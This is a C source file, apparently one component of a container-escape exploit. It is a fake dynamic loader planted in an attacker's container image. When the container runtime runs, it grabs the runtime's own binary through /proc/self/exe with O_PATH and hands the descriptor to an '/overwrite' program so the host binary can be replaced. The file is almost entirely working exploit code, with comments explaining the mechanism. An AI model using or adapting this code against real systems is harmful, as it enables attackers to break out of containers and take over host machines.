/* Stands where the interpreter's dynamic loader is looked for, in the attacker's image: so it runs in place of the
 * interpreter as soon as the container executes /proc/self/exe, with the runtime's file as its /proc/self/exe. It keeps
 * that file open by O_PATH and becomes /overwrite, after which nobody executes the file. No C library: it is loaded as
 * a loader, not as a program. */
static long call(long number, long a, long b, long c) {
    long result;
#ifdef __x86_64__
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
#error "only x86-64"
#endif
    return result;
}

void _start(void) {
    char name[] = "/proc/self/exe", program[] = "/overwrite", number[] = "0";
    long path = call(2, (long)name, 010000000, 0); /* open, O_PATH */
    number[0] = (char)('0' + path);
    char *argv[] = {program, number, 0}, *env[] = {0};
    call(59, (long)program, (long)argv, (long)env); /* execve */
    call(60, 99, 0, 0);                             /* exit */
    __builtin_unreachable();
}
